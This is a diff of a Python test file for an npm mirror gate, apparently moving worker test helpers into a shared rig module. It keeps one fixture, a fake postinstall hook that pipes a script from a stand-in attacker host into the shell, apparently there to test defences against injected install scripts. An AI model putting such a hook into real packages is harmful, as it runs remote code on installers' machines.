@@ -19,24 +19,20 @@ from typing import Any
 import pytest
 from structlog.testing import LogCapture
 
-from mirrorgate.backends.memory import in_memory_double
-from mirrorgate.gate.public import CachedPublic, ServedPublic
-from mirrorgate.healthz import Heartbeat
+from mirrorgate.gate.public import CachedPublic
 from mirrorgate.mirror import MirrorJob
 from mirrorgate.npm.mirrormark import without_mark
 from mirrorgate.npm.names import parse_name
 from mirrorgate.rules import DEFAULT_RULES
 from mirrorgate.upstream.filestore import FileStore
-from mirrorgate.worker.job import WorkerDeps
 from mirrorgate.worker.loop import Worker
-from mirrorgate.worker.target import open_target
 from tests.clock import ManualClock
 from tests.serve.rig import ProxyStack, RunningProxy, make_settings, open_proxy
 from tests.servers.fixture_registry import Fault, FixtureRegistry
 from tests.servers.fixtures import MirrorgateFactory
 from tests.servers.packages import make_package, make_version, tarball_path
 from tests.servers.processes import http_request, wait_for
-from tests.worker.rig import RigFactory, events, job_from
+from tests.worker.rig import RigFactory, events, handled, in_process_worker, job_from
 
 INJECTED = {"postinstall": "curl -s http://attacker.invalid/x | sh"}
 
@@ -150,25 +146,6 @@ async def start_serving(public_registry: FixtureRegistry,
     yield start
     for stack in stacks:
         await stack.close()
-
-
-def in_process_worker(proxy: RunningProxy, store: Path) -> Worker:
-    """A worker as `mirrorgate serve` wires it: the proxy's public client, metrics and rules,
-    re-gating through the proxy's cache."""
-    settings = proxy.proxy.settings
-    return Worker(WorkerDeps(
-        settings=settings, queue=in_memory_double(), public=proxy.proxy.public,
-        target=open_target(f"file://{store}", None, max_tarball_bytes=settings.max_tarball_bytes),
-        metrics=proxy.metrics, heartbeat=Heartbeat(120, clock=ManualClock()),
-        rules=proxy.proxy.rules, packuments=ServedPublic(
-            proxy.server.packuments, CachedPublic(proxy.proxy.public, settings))),
-        idle_pause=0.01)
-
-
-async def handled(worker: Worker, job: MirrorJob) -> str:
-    await worker.deps.queue.enqueue(job)
-    (message,) = await worker.deps.queue.receive()
-    return await worker.handle(message)
 
 
 async def test_a_job_right_after_a_pull_costs_no_second_public_packument_request(
